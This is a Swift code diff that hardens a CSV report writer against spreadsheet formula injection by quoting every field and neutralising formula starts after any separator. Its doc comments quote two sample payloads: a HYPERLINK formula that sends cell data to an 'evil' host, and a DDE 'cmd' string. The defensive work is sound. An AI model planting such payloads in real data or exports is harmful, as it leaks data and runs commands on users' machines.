@@ -36,19 +36,37 @@ public enum FailureReport {
         return try connection.copyOut(statement, body)
     }
 
-    /// One CSV line (RFC 4180): fields with commas, quotes or line breaks are quoted, and a field a spreadsheet would
-    /// read as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return) starts with `'` instead.
+    /// One CSV line (RFC 4180) that no spreadsheet evaluates, in any locale: every field is quoted, so a `;` or a tab
+    /// inside it does not start a cell even where the separator is `;`, and a formula start (`=`, `+`, `-`, `@`, a tab
+    /// or a carriage return) at the beginning of a field or after any separator a spreadsheet may split on (`,`, `;`,
+    /// a tab, `|`, a line break), blanks between, gets a `'` before it.
     ///
-    /// Addresses and numbers come from other systems: a mobile number such as `=HYPERLINK("http://evil/?"&A2,"x")`
-    /// would otherwise run when the merchant opens the report. An E.164 number shows as `'+15551230001`.
+    /// Addresses and numbers come from other systems: a mobile number such as `=HYPERLINK("http://evil/?"&A2,"x")` or
+    /// `x;=cmd|' /C calc'!A0` would otherwise run when the merchant opens the report. An E.164 number shows as
+    /// `'+15551230001`.
     public static func csvLine(_ fields: [String?]) -> String {
         fields.map { field in
-            guard var field else { return "" }
-            if let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) {
-                field = "'" + field
-            }
-            guard field.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return field }
-            return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+            guard let field else { return "" }
+            return "\"" + neutralised(field).replacingOccurrences(of: "\"", with: "\"\"") + "\""
         }.joined(separator: ",") + "\r\n"
+    }
+
+    private static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]
+    private static let separators: Set<Unicode.Scalar> = [",", ";", "\t", "|", "\n", "\r"]
+
+    /// The field with `'` before every formula start that begins a cell a spreadsheet could split off.
+    static func neutralised(_ field: String) -> String {
+        var result = String.UnicodeScalarView()
+        var cellStart = true
+        for scalar in field.unicodeScalars {
+            if cellStart && formulaStarts.contains(scalar) { result.append("'") }
+            result.append(scalar)
+            if separators.contains(scalar) {
+                cellStart = true
+            } else if scalar != " " {
+                cellStart = false
+            }
+        }
+        return String(result)
     }
 }
